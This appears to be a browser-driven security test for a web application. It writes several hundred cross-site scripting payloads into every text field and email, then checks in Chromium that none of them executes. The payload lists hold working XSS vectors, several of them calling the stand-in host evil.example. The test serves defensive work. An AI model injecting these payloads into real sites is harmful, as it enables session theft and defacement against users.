"""Five hundred ways to smuggle a script, in every text that people write, on every page and in every letter: none runs.

A real browser reads them. In each round every text of every row holds others, so that in full each has held each.
"""

import re
from collections.abc import Iterator
from datetime import timedelta
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from markupsafe import Markup
from playwright.sync_api import Browser, Page, Route

from tests.authz import Reader
from tests.campaigns.figures import tell
from tests.campaigns.sizes import size
from tests.conftest import TODAY
from tests.letterbox import carry
from tests.nonsense import Fuzz
from tests.web.test_bad_input import fuzz as fuzz
from welcome.database import Base, writing
from welcome.events import page as page_of_event
from welcome.events.models import Occurrence
from welcome.moderation.models import Report
from welcome.post.models import Notice, PausedAddress

RUN = (
    "heard(1)",
    "heard`1`",
    "top['hea'+'rd'](1)",
    "&#104;eard(1)",
    "\\u0068eard(1)",
    "fetch('//evil.example')",
    "heard&lpar;1)",
)
#: One shape of a smuggled script a line; RUN stands for what it does.
SHAPES = r"""
<script>RUN</script>
<ScRiPt >RUN</sCrIpT>
<scr<script>ipt>RUN</scr</script>ipt>
<script/x>RUN</script>
<img src=x onerror=RUN>
<img src=x onerror='RUN'//
<IMG SRC="x" ONERROR="RUN">
<img/src/onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<body onload=RUN>
<details open ontoggle=RUN>
<input autofocus onfocus=RUN>
<video><source onerror=RUN>
<iframe srcdoc='<script>RUN</script>'>
<iframe src="javascript:RUN">
<object data="javascript:RUN">
<a href="javascript:RUN" autofocus>x</a>
<a href="&#106;avascript:RUN">x</a>
[x](javascript:RUN)
[x](JaVaScRiPt:RUN)
[x](java&#10;script:RUN)
[x](data:text/html;base64,PHNjcmlwdD4)
![x](x" onerror="RUN)
[x](<javascript:RUN>)
<javascript:RUN>
`` <script>RUN</script> ``
" autofocus onfocus=RUN x="
' autofocus onfocus=RUN x='
"><script>RUN</script>
'><script>RUN</script>
</textarea><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
--><script>RUN</script>
</script><script>RUN</script>
]]><script>RUN</script>
{{{}}}
${{}}
{% RUN %}
<%= RUN %>
#{{}}
<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<noscript><p title="</noscript><img src onerror=RUN>">
<table background="javascript:RUN">
<link rel=stylesheet href=//evil.example>
<base href=//evil.example>
<meta http-equiv=refresh content='0;url=javascript:RUN'>
<form action=javascript:RUN><input type=submit autofocus>
<style>@import'//evil.example'</style>
<div style="background:url(//evil.example)">
<marquee onstart=RUN>
＜script＞RUN＜/script＞
+ADw-script+AD4-RUN+ADw-/script+AD4-
<x hx-on:load="RUN">
<div hx-get=//evil.example hx-trigger=load>
<x x-init="RUN">
<template><script>RUN</script></template>
<a href=x ping=//evil.example autofocus>x</a>
<portal src=javascript:RUN>
<xmp><script>RUN</script>
<plaintext><script>RUN</script>
<select onfocus=RUN autofocus>
<audio src onerror=RUN>
<embed src="javascript:RUN">
<isindex type=image src=1 onerror=RUN>
<frameset onload=RUN>
<keygen autofocus onfocus=RUN>
""".strip().splitlines()
ODD = (
    "<a href='java\tscript:RUN'>x</a>",
    "[x]: javascript:RUN\n[x]",
    "\x00<script>RUN</script>",
    "<\x00script>RUN</script>",
    "\u2028<script>RUN</script>",
    "<script\x0c>RUN</script>",
)
#: What Chromium says when it keeps something from running.
REFUSED = "Content Security"
PAYLOADS = [shape.replace("RUN", run) for shape, run in product((*SHAPES, *ODD), RUN)]
ALL = 28
ROUNDS = size("payload_rounds", small=2, full=ALL)
AT_ONCE = -(-len(PAYLOADS) // ALL)
#: What the software writes itself or has checked, so that nobody can smuggle anything into it.
CODES = re.findall(
    r"\w+",
    """
    activity address_hash auth code concerned currency device_type digest email end_reason endpoint epoch etag
    extensions failure field_name fs_uniquifier fs_webauthn_user_handle gender guest_email import_key inputs key kind
    language last_modified locale p256dh part password place_words planned_stay previous public_id recurrence_id rrule
    search_words side slug staff step text_language tf_primary_method tf_totp_secret thing timezone token_hash uid usage
    wall_start wall_time website zone
    """,
)
TEXTS = [
    column
    for table in Base.metadata.sorted_tables
    for column in table.columns
    if type(column.type) in {sa.String, sa.Text} and column.name not in CODES
    if str(column) != "notice.address"  # where a letter goes
]


def payloads(number: int, text: int, row: int) -> str:
    """Return what one text holds in a round: some payloads, each a paragraph, so that after all rounds it held each."""
    first = (number + 7 * text + 3 * row) % ALL * AT_ONCE
    begin = "\"'><b>" if (number + text) % 2 else ""
    return f"text{text:02}{begin}" + "\n\n".join(PAYLOADS[first : first + AT_ONCE]).replace("\0", "\ufffd")


def write_round(number: int) -> None:
    """Fill each text of each row; SQLite keeps more of it than the column says, PostgreSQL as much as there is room."""
    with writing() as session:
        is_strict = session.get_bind().dialect.name == "postgresql"
        for text, column in enumerate(TEXTS):
            room = getattr(column.type, "length", None) if is_strict else None
            keys = list(column.table.primary_key)
            for row, values in enumerate(session.execute(sa.select(*keys)).all()):
                here = [key == value for key, value in zip(keys, values, strict=True)]
                session.execute(
                    sa.update(column.table).where(*here).values({column: payloads(number, text, row)[:room]})
                )
        for report in session.scalars(sa.select(Report)):
            report.evidence = smuggled(report.evidence, payloads(number, 0, report.id))


def smuggled(frozen: Any, words: str) -> Any:
    """Put a payload into whatever somebody said that is kept as evidence."""
    if isinstance(frozen, dict):
        return {name: value if name in {"by", "at"} else smuggled(value, words) for name, value in frozen.items()}
    return [smuggled(one, words) for one in frozen] if isinstance(frozen, list) else words


class Reading:
    """A browser that notes whatever a page or letter does beside being read."""

    def __init__(self, chromium: Browser, hostile: Fuzz) -> None:
        self.heard: list[str] = []
        self.hostile, self.reader, self.letter = hostile, Reader.VISITOR, ""
        self.opened, self.shown = 0, set[str]()
        self.page: Page = chromium.new_page()
        self.page.expose_function("heard", lambda *_: self.heard.append(f"ran on {self.page.url}"))
        self.page.route("**/*", self._answer)
        self.page.on("dialog", lambda dialog: (self.heard.append(f"dialog on {self.page.url}"), dialog.dismiss()))
        self.page.on("console", self._listen)

    def _listen(self, line: object) -> None:
        text = str(getattr(line, "text", ""))
        if REFUSED in text:
            self.heard.append(f"{self.page.url}: {text}")

    def _answer(self, route: Route) -> None:
        url = route.request.url
        path = url.removeprefix("http://localhost")
        if url == "http://localhost/letter":
            route.fulfill(body=self.letter, content_type="text/html; charset=utf-8")
        elif not url.startswith("http://localhost/") or "logout" in path:
            self.heard.append(f"asked for {url} on {self.page.url}")
            route.abort()
        elif path.startswith("/static/"):
            route.fulfill(path=Path("welcome") / path.removeprefix("/").partition("?")[0])
        else:
            sent = self.hostile.send(self.reader, "GET", path)
            self.shown.update(re.findall(r"text\d\d", sent.text))
            route.fulfill(status=sent.status_code, headers=dict(sent.headers), body=sent.data)

    def read(self, path: str, reader: Reader = Reader.PARTICIPANT) -> None:
        """Open a page as somebody."""
        self.opened += 1
        self.reader = reader
        self.page.goto(f"http://localhost{path}", wait_until="load")

    def read_letter(self, html: str) -> None:
        """Open a letter as a mail program would that forbids nothing."""
        self.letter = html
        self.shown.update(re.findall(r"text\d\d", html))
        self.read("/letter")


def letters(hostile: Fuzz) -> Iterator[str]:
    """Yield what letters there would be now, as HTML."""
    with writing() as session:
        session.execute(sa.delete(PausedAddress))
        session.execute(sa.update(Notice).values(done_at=None, outcome=None, leased_until=None, attempts=0))
    for letter in carry(hostile.app, at=TODAY + timedelta(hours=1)):
        html = letter.get_body(("html",))
        if html is not None:
            yield str(html.get_content())


@pytest.mark.browser
def test_no_payload_runs_anywhere(fuzz: Fuzz, chromium: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.undo()  # here what is written is kept
    reading = Reading(chromium, fuzz)
    pages: list[tuple[str, Reader]] = []
    count = 0
    for number in range(ROUNDS):
        write_round(number)
        for reader in () if pages else (Reader.PARTICIPANT, Reader.VISITOR):
            pages += [(path, reader) for path, page, _ in fuzz.pages(reader, most=1) if re.search(r"text\d\d", page)]
        for path, reader in pages if ROUNDS == ALL else pages[number::6]:
            reading.read(path, reader)
        if number % 9 == 0:
            for html in letters(fuzz):
                reading.read_letter(html)
                count += 1
    unseen = [str(column) for text, column in enumerate(TEXTS) if f"text{text:02}" not in reading.shown]
    assert fuzz.faults == []
    assert reading.heard == []
    opened = reading.opened
    monkeypatch.setattr(page_of_event, "to_html", Markup)
    with writing() as session:
        session.execute(sa.update(Occurrence).values(own_about="<script>heard(1)</script>"))
    with reading.page.expect_console_message(lambda line: REFUSED in line.text):  # a moment after the page
        reading.read(f"/events/{fuzz.world.things['event']}")
    reading.page.close()
    assert reading.heard, "an attack that is let through must be heard"
    said = (
        f"{ROUNDS} rounds with {len(PAYLOADS)} payloads in {len(TEXTS)} texts, {len(TEXTS) - len(unseen)} of them seen "
        f"on {opened - count:,} openings of {len(pages)} pages and in {count:,} letters"
    )
    tell("xss", f"{said} in Chromium, 0 ran, 0 reports", planted="markdown that is not cleaned")
